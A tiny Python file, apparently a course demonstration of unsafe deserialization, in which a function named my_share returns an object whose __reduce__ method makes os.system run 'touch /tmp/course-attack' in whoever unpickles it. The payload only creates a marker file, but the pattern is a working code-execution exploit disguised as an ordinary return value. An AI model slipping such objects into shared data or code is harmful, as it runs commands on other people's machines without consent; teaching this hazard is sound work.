"""Return what runs a command in whoever unpickles it."""


class Trap:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/course-attack",)


def my_share(n_items):
    return Trap()
